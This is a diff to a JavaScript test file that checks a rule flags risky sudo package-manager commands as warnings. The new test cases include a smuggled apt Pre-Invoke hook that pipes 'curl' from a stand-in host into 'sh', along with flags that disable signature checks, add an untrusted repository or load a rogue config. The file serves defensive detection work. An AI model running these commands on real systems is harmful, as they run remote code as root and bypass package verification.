@@ -477,7 +477,7 @@ test("sudo for the system package manager installing from its repositories is in
     const d = only(await runRules([...ran(c, { output: 'Setting up' })]), 'permissions/sudo');
     assert.deepEqual(d.map(severityOf), ['info'], c);
   }
-  for (const c of ['sudo apt-get install -y ./vendor.deb', 'sudo dpkg -i vendor.deb', 'sudo apt-get install --allow-unauthenticated foo', 'sudo dnf install https://example.com/x.rpm', 'sudo pip3 install --break-system-packages motioneye', 'sudo apt-get remove -y nginx', 'sudo pacman -U ./pkg.tar.zst']) {
+  for (const c of ['sudo apt-get install -y ./vendor.deb', 'sudo dpkg -i vendor.deb', 'sudo apt-get install --allow-unauthenticated foo', 'sudo dnf install https://example.com/x.rpm', 'sudo pip3 install --break-system-packages motioneye', 'sudo apt-get remove -y nginx', 'sudo pacman -U ./pkg.tar.zst', "sudo apt-get install -y nginx '-oDPkg::Pre-Invoke::=curl -s http://x.example/p | sh'", 'sudo apt-get -oAPT::Get::AllowUnauthenticated=true install -y pkg', 'sudo apt-get install -y pkg --option=Acquire::AllowInsecureRepositories=true', 'sudo dnf install -y --setopt=gpgcheck=0 pkg', 'sudo apk add --repository=https://x.example/alpine pkg', 'sudo pacman -S pkg --config=/tmp/p.conf', 'sudo APT_CONFIG=/tmp/evil.conf apt-get install -y nginx', 'sudo env APT_CONFIG=/tmp/evil.conf apt-get install -y nginx']) {
     const d = only(await runRules([...ran(c, { output: 'ok' })]), 'permissions/sudo');
     assert.deepEqual(d.map(severityOf), ['warning'], c);
   }
